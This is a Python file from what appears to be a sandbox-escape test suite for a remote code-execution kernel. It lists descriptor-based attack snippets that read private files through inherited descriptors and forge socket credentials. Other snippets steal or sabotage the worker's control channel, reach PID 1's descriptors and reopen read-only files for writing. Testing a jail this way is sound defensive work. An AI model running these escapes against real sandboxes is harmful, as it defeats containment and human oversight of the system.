"""What was inherited: every descriptor the worker was born with, and those of its parents."""

from __future__ import annotations

from functools import partial

from coderemote_kernel.escape.attack import Attack, Category

__all__ = ["ATTACKS"]

_attack = partial(Attack, category=Category.DESCRIPTORS)

ATTACKS = (
    _attack(
        id="descriptors-describe",
        title="read every open file and climb every open directory",
        stock=True,
        code="""
attempt()
for number, status in descriptors():
    if stat.S_ISDIR(status.st_mode):
        for path in ("private.txt", "../private.txt", "../" * 9 + T["home"].lstrip("/") + "/private.txt"):
            with contextlib.suppress(OSError):
                fd = os.open(path, os.O_RDONLY, dir_fd=number)
                print(os.read(fd, 4096))
    elif stat.S_ISREG(status.st_mode):
        with contextlib.suppress(OSError):
            data = os.pread(number, 65536, 0)
            print(repr(data))
            if b"seccomp" in data and b"mount" in data:
                got(f"the jail's own configuration on descriptor {number}")
    elif stat.S_ISBLK(status.st_mode):
        got(f"a block device on descriptor {number}")
""",
    ),
    _attack(
        id="descriptors-sockets",
        title="find sockets to anyone but the relay",
        code="""
attempt()
own = os.getpid()
peers = []
for number, status in descriptors():
    if not stat.S_ISSOCK(status.st_mode):
        continue
    with socket.socket(fileno=os.dup(number)) as sock:
        if sock.family == socket.AF_UNIX and sock.type != socket.SOCK_DGRAM:
            peer = struct.unpack("3i", sock.getsockopt(1, socket.SO_PEERCRED, 12))[0]
            if peer != own:
                peers.append(number)
        elif sock.family in (socket.AF_INET, socket.AF_INET6):
            with contextlib.suppress(OSError):
                if not sock.getpeername()[0].startswith(("127.", "::1")):
                    got(f"a connection to {sock.getpeername()}")
if len(peers) > 1:
    got(f"{len(peers)} sockets lead out: {peers}")
""",
    ),
    _attack(
        id="descriptors-garbage",
        title="write garbage into every descriptor",
        dirty=True,
        code="""
attempt(0.1)
out = {1, 2}
for number, status in descriptors():
    if number not in out:
        with contextlib.suppress(OSError):
            os.set_blocking(number, False)
            os.write(number, b"garbage\\n" * 64)
""",
    ),
    _attack(
        id="descriptors-pass",
        title="pass descriptors to the relay (SCM_RIGHTS), hundreds of them",
        code="""
out = wall()
attempt()
import array
with socket.socket(fileno=os.dup(out)) as sock:
    frame = pack(IOPUB, [b"x"])
    for _ in range(20):
        passed = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(10)])
        with contextlib.suppress(OSError):
            sock.sendmsg([frame], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, passed)])
        for fd in passed:
            os.close(fd)
""",
    ),
    _attack(
        id="descriptors-pass-wall",
        title="pass the wall to itself through itself, so that it is never freed",
        code="""
out = wall()
attempt()
import array
with socket.socket(fileno=os.dup(out)) as sock:
    for _ in range(20):
        with contextlib.suppress(OSError):
            sock.sendmsg([pack(IOPUB, [b"x"])], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [out] * 50))])
""",
    ),
    _attack(
        id="descriptors-credentials",
        title="pass credentials of others to the relay (SCM_CREDENTIALS)",
        code="""
out = wall()
attempt()
with socket.socket(fileno=os.dup(out)) as sock:
    for pid, uid in ((1, 0), (T["relay"], 0), (os.getpid(), 0)):
        with contextlib.suppress(OSError):
            sock.sendmsg([pack(IOPUB, [b"x"])], [(socket.SOL_SOCKET, 2, struct.pack("3i", pid, uid, 0))])
            got(f"credentials {pid} {uid}")
""",
    ),
    _attack(
        id="descriptors-close-wall",
        title="close the wall",
        code="""
out = wall()
attempt(0.2)
os.close(out)
""",
    ),
    _attack(
        id="descriptors-shutdown-wall",
        title="shut down one direction of the wall, then the other",
        code="""
out = wall()
attempt(0.2)
with socket.socket(fileno=os.dup(out)) as sock:
    sock.shutdown(socket.SHUT_RD)
    time.sleep(0.2)
    sock.shutdown(socket.SHUT_WR)
""",
    ),
    _attack(
        id="descriptors-replace-wall",
        title="put something else where the wall was",
        code="""
out = wall()
attempt(0.2)
end, other = socket.socketpair()
keep.append((end, other))
os.dup2(end.fileno(), out)
""",
    ),
    _attack(
        id="descriptors-dup-wall",
        title="hold the wall open in children that outlive the worker",
        code="""
out = wall()
attempt(0.2)
for _ in range(3):
    fork(os.dup, out)
os._exit(7)
""",
    ),
    _attack(
        id="descriptors-steal",
        title="read from the wall what is meant for the worker",
        code="""
out = wall()
attempt()
until = time.monotonic() + 1
while time.monotonic() < until:
    if select.select([out], [], [], 0.1)[0]:
        with contextlib.suppress(BlockingIOError):
            print(repr(os.read(out, 65536)))
""",
        dirty=True,
    ),
    _attack(
        id="descriptors-shrink",
        title="shrink, grow and block the wall's buffers",
        code="""
out = wall()
attempt()
with socket.socket(fileno=os.dup(out)) as sock:
    for size in (1, 1 << 30):
        for option in (7, 8, 32, 33):
            with contextlib.suppress(OSError):
                sock.setsockopt(socket.SOL_SOCKET, option, size)
        if sock.getsockopt(socket.SOL_SOCKET, 7) > 64 << 20:
            got("a huge buffer")
    for option, value in ((20, struct.pack("ll", 0, 1)), (21, struct.pack("ll", 0, 1)), (13, struct.pack("ii", 1, 0)), (42, struct.pack("i", 1))):
        with contextlib.suppress(OSError):
            sock.setsockopt(socket.SOL_SOCKET, option, value)
    sock.setblocking(True)
""",
        dirty=True,
    ),
    _attack(
        id="descriptors-filter",
        title="attach a socket filter to the wall that drops everything",
        code="""
out = wall()
attempt()
buffer = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0))
with socket.socket(fileno=os.dup(out)) as sock:
    for option in (26, 51):
        with contextlib.suppress(OSError):
            sock.setsockopt(socket.SOL_SOCKET, option, struct.pack("HxxxxxxQ", 1, ctypes.addressof(buffer)))
    with contextlib.suppress(OSError):
        sock.setsockopt(socket.SOL_SOCKET, 44, 1)
""",
        dirty=True,
    ),
    _attack(
        id="descriptors-owner",
        title="have the wall send signals to others (F_SETOWN, F_SETSIG, O_ASYNC)",
        code="""
out = wall()
attempt()
import fcntl
for target in (1, -1, os.getppid(), T["relay"], -T["relay"], T["bystander"]):
    for signal_number in (9, 19):
        with contextlib.suppress(OSError):
            fcntl.fcntl(out, 10, signal_number)
            fcntl.fcntl(out, fcntl.F_SETOWN, target)
            flags = fcntl.fcntl(out, fcntl.F_GETFL)
            fcntl.fcntl(out, fcntl.F_SETFL, flags | os.O_ASYNC)
            print("a message, so that the wall has something to tell", flush=True)
            fcntl.fcntl(out, fcntl.F_SETFL, flags)
fcntl.fcntl(out, fcntl.F_SETOWN, 0)
""",
        dirty=True,
    ),
    _attack(
        id="descriptors-of-init",
        title="reach PID 1's descriptors: the leash, the launcher's log",
        code="""
attempt()
for pid in (1, os.getppid()):
    with contextlib.suppress(OSError):
        names = os.listdir(f"/proc/{pid}/fd")
        if pid == 1 and names and os.getpid() != 1:
            got(f"the list of PID 1's descriptors {names}")
    for number in range(64):
        with contextlib.suppress(OSError):
            fd = os.open(f"/proc/1/fd/{number}", os.O_RDWR)
            got(f"PID 1's descriptor {number}")
    handle = syscall("pidfd_open", pid, 0)
    for number in range(64):
        if handle >= 0 and syscall("pidfd_getfd", handle, number, 0) >= 0:
            got(f"descriptor {number} of {pid} by pidfd")
""",
    ),
    _attack(
        id="descriptors-leash",
        title="find the leash among one's own descriptors and cut it",
        code="""
attempt(0.1)
main = None
with contextlib.suppress(LookupError):
    main = wall()
for number, status in descriptors():
    if number > 2 and number != main and stat.S_ISSOCK(status.st_mode):
        with socket.socket(fileno=os.dup(number)) as sock:
            if sock.family == socket.AF_UNIX and sock.type != socket.SOCK_DGRAM:
                peer = struct.unpack("3i", sock.getsockopt(1, socket.SO_PEERCRED, 12))[0]
                if peer not in (os.getpid(),):
                    os.write(number, b"exit 0\\n")
                    os.close(number)
                    got(f"descriptor {number} leads to {peer}")
""",
    ),
    _attack(
        id="descriptors-reopen",
        title="reopen descriptors through /proc with more rights",
        code="""
attempt()
import fcntl
for number, status in descriptors():
    flags = fcntl.fcntl(number, fcntl.F_GETFL)
    if stat.S_ISREG(status.st_mode) and flags & os.O_ACCMODE == os.O_RDONLY:
        with contextlib.suppress(OSError):
            path = os.readlink(f"/proc/self/fd/{number}")
            fd = os.open(f"/proc/self/fd/{number}", os.O_RDWR)
            if not path.startswith(("/tmp", "/dev/shm", os.getcwd())):
                got(f"{path} for writing")
            os.close(fd)
""",
    ),
    _attack(
        id="descriptors-standard",
        title="write past the capture to the first standard descriptors",
        code="""
attempt()
for number in (0, 1, 2):
    with contextlib.suppress(OSError):
        peer = os.readlink(f"/proc/self/fd/{number}")
        if peer.startswith("/dev/pts") or T["root"] in peer:
            got(f"descriptor {number} is {peer}")
for number in range(3, 64):
    with contextlib.suppress(OSError):
        if stat.S_ISFIFO(os.fstat(number).st_mode):
            os.set_blocking(number, False)
            os.write(number, b"")
""",
    ),
)
